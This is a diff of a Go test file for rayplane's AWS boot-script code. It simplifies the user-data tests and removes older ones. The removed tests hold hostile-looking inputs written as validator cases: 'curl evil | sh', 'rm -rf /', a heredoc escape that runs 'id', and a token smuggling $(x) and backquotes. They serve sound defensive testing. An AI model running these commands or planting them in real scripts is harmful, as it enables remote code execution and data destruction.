@@ -1,13 +1,9 @@
 package aws
 
 import (
-	"context"
 	"errors"
 	"fmt"
 	"net/http"
-	"os"
-	"os/exec"
-	"path/filepath"
 	"strings"
 	"testing"
 
@@ -17,133 +13,23 @@ import (
 
 	"github.com/rayplane/rayplane/internal/api"
 	"github.com/rayplane/rayplane/internal/cloud"
+	"github.com/rayplane/rayplane/internal/cloud/bootscript"
 )
 
-const testBootstrap = `{"control_plane_url":"https://cp.example:8443","bootstrap_token":"rpb_secret'$(x)` + "`id`" + `\"","ca_cert_pem":"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"}`
-
-func TestUserDataRoundTrip(t *testing.T) {
-	script := UserData([]byte(testBootstrap))
-	if !strings.HasPrefix(script, "#!/bin/sh\n") || !strings.Contains(script, "umask 077\n") ||
-		!strings.Contains(script, "\nrayplaned agent --bootstrap "+BootstrapPath+"\n") || strings.Contains(script, "exec ") ||
-		!strings.HasSuffix(script, "\npoweroff || shutdown -h now\n") {
+// TestUserData: the user data is bootscript's script, and its payload
+// comes back out of it (bootscript's tests run the script itself).
+func TestUserData(t *testing.T) {
+	const payload = `{"bootstrap_token":"rpb_t"}`
+	script := UserData([]byte(payload))
+	if script != bootscript.Build([]byte(payload)) || len(script) > maxUserData {
 		t.Fatalf("script:\n%s", script)
 	}
 	got, err := ParseUserData(script)
-	if err != nil || string(got) != testBootstrap {
-		t.Fatalf("ParseUserData = %q, %v; want %q", got, err, testBootstrap)
+	if err != nil || string(got) != payload {
+		t.Fatalf("ParseUserData = %q, %v", got, err)
 	}
-	// Indented JSON is written compact: one line the heredoc cannot end on.
-	indented := "{\n  \"bootstrap_token\": \"t\"\n}"
-	if got, err := ParseUserData(UserData([]byte(indented))); err != nil || string(got) != `{"bootstrap_token":"t"}` {
-		t.Fatalf("indented payload: %q, %v", got, err)
-	}
-}
-
-// TestUserDataShellWritesPayloadVerbatim runs the script's heredoc with a
-// real shell: quotes, $( ), backquotes and backslashes of the payload
-// reach the file as they are, and the file is 0600.
-func TestUserDataShellWritesPayloadVerbatim(t *testing.T) {
-	sh, err := exec.LookPath("sh")
-	if err != nil {
-		t.Fatalf("no sh: %v", err)
-	}
-	dir := t.TempDir()
-	out := filepath.Join(dir, "bootstrap.json")
-	script := UserData([]byte(testBootstrap))
-	script = strings.ReplaceAll(script, "mkdir -p /var/lib/rayplane\n", "")
-	script = strings.ReplaceAll(script, "cat > "+BootstrapPath, "cat > "+out)
-	script = script[:strings.Index(script, heredocEnd+"\n")+len(heredocEnd)+1] // the rest runs the agent
-	cmd := exec.Command(sh, "-c", script)
-	if b, err := cmd.CombinedOutput(); err != nil {
-		t.Fatalf("sh: %v: %s", err, b)
-	}
-	b, err := os.ReadFile(out)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if string(b) != testBootstrap+"\n" {
-		t.Fatalf("file = %q, want %q", b, testBootstrap+"\n")
-	}
-	if fi, _ := os.Stat(out); fi.Mode().Perm() != 0o600 {
-		t.Fatalf("mode %v, want 0600", fi.Mode().Perm())
-	}
-}
-
-// TestUserDataPowersOffWhenTheAgentExits runs the whole script with a
-// real shell, its paths moved to a temporary directory and rayplaned,
-// poweroff and shutdown replaced by scripts that record their calls: the
-// agent gets the payload, and when it exits (with an error, too) the
-// instance powers off; a later boot powers off too.
-func TestUserDataPowersOffWhenTheAgentExits(t *testing.T) {
-	sh, err := exec.LookPath("sh")
-	if err != nil {
-		t.Fatalf("no sh: %v", err)
-	}
-	for _, status := range []int{0, 3} {
-		dir := t.TempDir()
-		bin, root, log := filepath.Join(dir, "bin"), filepath.Join(dir, "root"), filepath.Join(dir, "calls")
-		for _, d := range []string{bin, filepath.Join(root, "var/lib/cloud")} {
-			if err := os.MkdirAll(d, 0o755); err != nil {
-				t.Fatal(err)
-			}
-		}
-		fake := func(name, body string) {
-			if err := os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\n"+body), 0o755); err != nil {
-				t.Fatal(err)
-			}
-		}
-		fake("rayplaned", fmt.Sprintf("echo \"rayplaned $*\" >> %s\ncat \"$3\" >> %s\nexit %d\n", log, log, status))
-		fake("poweroff", fmt.Sprintf("echo poweroff >> %s\n", log))
-		fake("shutdown", fmt.Sprintf("echo shutdown >> %s\n", log))
-
-		script := UserData([]byte(`{"bootstrap_token":"t"}`))
-		script = strings.ReplaceAll(script, "/var/lib/", root+"/var/lib/")
-		cmd := exec.Command(sh, "-c", script)
-		cmd.Env = append(os.Environ(), "PATH="+bin+":/usr/bin:/bin")
-		if b, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("agent status %d: sh: %v: %s", status, err, b)
-		} else if !strings.Contains(string(b), fmt.Sprintf("exited with status %d", status)) {
-			t.Errorf("agent status %d: output %q does not say why it powers off", status, b)
-		}
-		calls, _ := os.ReadFile(log)
-		want := "rayplaned agent --bootstrap " + root + BootstrapPath + "\n" + `{"bootstrap_token":"t"}` + "\npoweroff\n"
-		if string(calls) != want {
-			t.Fatalf("agent status %d: calls\n%s\nwant\n%s", status, calls, want)
-		}
-
-		// A later boot: cloud-init runs the per-boot script, which powers off.
-		boot := exec.Command(filepath.Join(root, perBootDir, "rayplane-poweroff"))
-		boot.Env = cmd.Env
-		if b, err := boot.CombinedOutput(); err != nil {
-			t.Fatalf("per-boot script: %v: %s", err, b)
-		}
-		if calls, _ := os.ReadFile(log); !strings.HasSuffix(string(calls), "poweroff\npoweroff\n") {
-			t.Fatalf("a later boot did not power off: %s", calls)
-		}
-	}
-}
-
-func TestParseUserDataRefusesOtherScripts(t *testing.T) {
-	good := UserData([]byte(`{"a":1}`))
-	cases := map[string]string{
-		"empty":              "",
-		"not json":           UserData([]byte("not json")),
-		"empty payload":      userDataPrefix + userDataSuffix,
-		"extra command":      strings.Replace(good, "umask 077\n", "umask 077\ncurl evil | sh\n", 1),
-		"trailing command":   good + "rm -rf /\n",
-		"second line":        strings.Replace(good, `{"a":1}`, "{\"a\":1}\ntouch /x", 1),
-		"ends heredoc early": strings.Replace(good, `{"a":1}`, "{\"a\":1}\n"+heredocEnd+"\nid\ncat <<'X'", 1),
-		"not compact":        strings.Replace(good, `{"a":1}`, `{"a": 1}`, 1),
-		"other binary":       strings.Replace(good, "\nrayplaned agent", "\nevil agent", 1),
-		"no power off":       strings.TrimSuffix(good, "poweroff || shutdown -h now\n"),
-		"crlf":               strings.ReplaceAll(good, "\n", "\r\n"),
-	}
-	for name, script := range cases {
-		t.Run(name, func(t *testing.T) {
-			if b, err := ParseUserData(script); err == nil {
-				t.Fatalf("accepted, payload %q", b)
-			}
-		})
+	if _, err := ParseUserData(script + "id\n"); err == nil {
+		t.Fatal("ParseUserData accepted another script")
 	}
 }
 
@@ -261,33 +147,5 @@ func TestSafeLogMode(t *testing.T) {
 		awssdk.LogResponse | awssdk.LogResponseWithBody | awssdk.LogDeprecatedUsage
 	if got := safeLogMode(all); got != awssdk.LogRetries|awssdk.LogDeprecatedUsage {
 		t.Fatalf("safeLogMode kept %b", got)
-	}
-}
-
-func TestKeyLocks(t *testing.T) {
-	var k keyLocks
-	unlock, err := k.lock(context.Background(), "a")
-	if err != nil {
-		t.Fatal(err)
-	}
-	// Another key is free; the same key waits until the context ends.
-	unlockB, err := k.lock(context.Background(), "b")
-	if err != nil {
-		t.Fatal(err)
-	}
-	unlockB()
-	ctx, cancel := context.WithCancel(context.Background())
-	cancel()
-	if _, err := k.lock(ctx, "a"); !errors.Is(err, context.Canceled) {
-		t.Fatalf("lock of a held key with an ended context = %v", err)
-	}
-	unlock()
-	unlock2, err := k.lock(context.Background(), "a")
-	if err != nil {
-		t.Fatal(err)
-	}
-	unlock2()
-	if n := len(k.locks); n != 0 {
-		t.Fatalf("%d lock entries left", n)
 	}
 }
